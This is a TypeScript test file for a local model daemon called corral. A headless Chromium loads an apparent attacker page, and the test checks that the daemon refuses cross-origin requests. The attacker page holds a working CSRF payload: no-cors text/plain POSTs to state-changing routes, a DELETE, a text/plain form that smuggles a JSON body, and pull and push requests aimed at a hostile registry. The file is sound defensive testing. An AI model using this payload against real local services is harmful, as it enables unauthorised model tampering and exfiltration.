// A hostile web page in a real browser (Debian's chromium, headless, driven by playwright-core)
// tries to drive a real `corral serve` with the requests a page may send without asking: "simple"
// POSTs (fetch in no-cors mode with a text/plain body) to every state-changing route, a DELETE, and
// a plain <form> POST. The page lives on another origin (http://attacker.localhost:<port>, which
// Chromium resolves to loopback). Afterwards the daemon's models, blobs and loaded models are as
// they were, and the hostile registry the page asked it to pull from and push to heard nothing.
// A page on an allowed origin (http://localhost:<port>) can still read the API.

import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readdir } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { randomBytes } from "node:crypto";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { sha256Bytes } from "@corral/shared/digest";
import { startDaemon, uploadFile, type Daemon } from "./helpers/daemon.ts";
import { fixtures } from "./fixtures.ts";
import { ensureChromium, launchBrowser, type Browser } from "./helpers/browser.ts";

const skip = ensureChromium();
let daemon: Daemon;
let registry: Server;
let registryHost: string;
const registryHits: string[] = [];
let pages: Server;
let pagesPort: number;
let browser: Browser;
let page: Page;

function listen(server: Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () => {
      const addr = server.address();
      resolve(typeof addr === "object" && addr ? addr.port : 0);
    }),
  );
}

async function modelNames(): Promise<string[]> {
  const r = await fetch(`${daemon.url}/api/tags`);
  return ((await r.json()) as { models: Array<{ name: string }> }).models.map((m) => m.name).sort();
}

async function loadedModels(): Promise<string[]> {
  const r = await fetch(`${daemon.url}/api/ps`);
  return ((await r.json()) as { models: Array<{ name: string }> }).models.map((m) => m.name);
}

const blobFiles = async (): Promise<string[]> => (await readdir(join(daemon.modelsDir, "blobs"))).sort();

/** The attacker's page: every request a page can make without the daemon's consent. */
function attackPage(): string {
  const blob = randomBytes(32 * 1024).toString("hex");
  const chat = [{ role: "user", content: "Once upon a time" }];
  const posts: Array<[string, string]> = [
    ["/api/copy", JSON.stringify({ source: "story", destination: "evil-copy" })],
    [`/api/blobs/${sha256Bytes(Buffer.from(blob))}`, blob],
    ["/api/create", JSON.stringify({ model: "evil-created", from: "story", stream: false })],
    ["/api/pull", JSON.stringify({ model: `${registryHost}/evil/model`, insecure: true, stream: false })],
    ["/api/push", JSON.stringify({ model: `${registryHost}/evil/story`, insecure: true, stream: false })],
    ["/api/generate", JSON.stringify({ model: "story", prompt: "Once upon a time", stream: false, options: { num_predict: 1 } })],
    ["/api/chat", JSON.stringify({ model: "story", messages: chat, stream: false, options: { num_predict: 1 } })],
    ["/v1/chat/completions", JSON.stringify({ model: "story", messages: chat, max_tokens: 1 })],
  ];
  // A form posting text/plain makes a JSON body of name=value: {"source":…,"x":"="}.
  const formName = '{"source":"story","destination":"form-copy","x":"';
  const script = `
    const DAEMON = ${JSON.stringify(daemon.url)};
    const POSTS = ${JSON.stringify(posts)};
    async function attack() {
      const results = [];
      for (const [path, body] of POSTS) {
        try {
          const r = await fetch(DAEMON + path, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body });
          results.push(path + " " + r.type);
        } catch (e) {
          results.push(path + " failed: " + e);
        }
      }
      try {
        await fetch(DAEMON + "/api/delete", { method: "DELETE", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ model: "story" }) });
        results.push("/api/delete answered");
      } catch (e) {
        results.push("/api/delete failed: " + e);
      }
      const frame = document.querySelector("iframe");
      await new Promise((resolve) => { frame.onload = resolve; document.querySelector("form").submit(); });
      results.push("form sent");
      return results;
    }`;
  return `<!doctype html><meta charset="utf-8"><title>cute cats</title>
<form method="POST" action="${daemon.url}/api/copy" enctype="text/plain" target="sink"><input type="hidden" name='${formName}' value='"}'></form>
<iframe name="sink"></iframe>
<script>${script}</script>`;
}

/** A page on an allowed origin that reads the model list. */
function friendlyPage(): string {
  return `<!doctype html><meta charset="utf-8"><title>my app</title>
<script>
  async function names() {
    const r = await fetch(${JSON.stringify(`${daemon.url}/api/tags`)});
    return (await r.json()).models.map((m) => m.name);
  }
</script>`;
}

before(async () => {
  if (skip) return;
  registry = createServer((req, res) => {
    registryHits.push(`${req.method} ${req.url}`);
    res.writeHead(404, { "Content-Type": "application/json" }).end('{"errors":[{"code":"NAME_UNKNOWN"}]}');
  });
  registryHost = `127.0.0.1:${await listen(registry)}`;

  daemon = await startDaemon({ env: { CORRAL_ORIGINS: "", OLLAMA_ORIGINS: "" } });
  const digest = await uploadFile(daemon, fixtures.stories260K);
  const created = await fetch(`${daemon.url}/api/create`, {
    method: "POST",
    body: JSON.stringify({ model: "story", files: { "stories260K.gguf": digest }, template: "{{ .Prompt }}", stream: false }),
  });
  assert.equal(created.status, 200, await created.text());
  // Named for the hostile registry, so that a push the page asks for would really go out.
  const copied = await fetch(`${daemon.url}/api/copy`, { method: "POST", body: JSON.stringify({ source: "story", destination: `${registryHost}/evil/story` }) });
  assert.equal(copied.status, 200, await copied.text());

  pages = createServer((req, res) => {
    const html = req.url === "/friendly" ? friendlyPage() : attackPage();
    res.writeHead(200, { "Content-Type": "text/html; charset=utf-8" }).end(html);
  });
  pagesPort = await listen(pages);

  browser = await launchBrowser();
  page = browser.page;
});

after(async () => {
  await browser?.close();
  await daemon?.stop();
  for (const server of [registry, pages]) if (server) await new Promise<void>((r) => server.close(() => r()));
});

test("a page on another origin cannot copy, delete, upload, create, pull, push, generate or chat", { skip }, async () => {
  const models = await modelNames();
  const blobs = await blobFiles();
  // What the daemon answered to each request the browser sent on the page's behalf.
  const answers: string[] = [];
  page.on("response", (r) => {
    if (r.url().startsWith(daemon.url)) answers.push(`${r.request().method()} ${new URL(r.url()).pathname} ${r.status()}`);
  });
  await page.goto(`http://attacker.localhost:${pagesPort}/`);
  assert.equal(await page.title(), "cute cats");
  const results = await page.evaluate<string[]>("attack()");

  assert.ok(results.includes("form sent"), results.join("\n"));

  const seen = `the daemon answered:\n${answers.join("\n")}`;
  assert.deepEqual(await modelNames(), models, `the model list is unchanged; ${seen}`);
  assert.deepEqual(await blobFiles(), blobs, "no blob was added");
  assert.deepEqual(await loadedModels(), [], "no model was loaded");
  assert.deepEqual(registryHits, [], "the hostile registry received no request");
  assert.match(results.find((r) => r.startsWith("/api/delete")) ?? "", /failed/, "the DELETE's preflight is refused");
  // Every simple POST and the form reached the daemon, which refused it.
  const posted = answers.filter((a) => a.startsWith("POST "));
  assert.equal(posted.length, 9, seen);
  for (const a of posted) assert.match(a, / 403$/, seen);
});

test("a page on an allowed origin (http://localhost:<port>) reads the API", { skip }, async () => {
  await page.goto(`http://localhost:${pagesPort}/friendly`);
  const names = await page.evaluate<string[]>("names()");
  assert.ok(names.includes("story:latest"), names.join(", "));
});
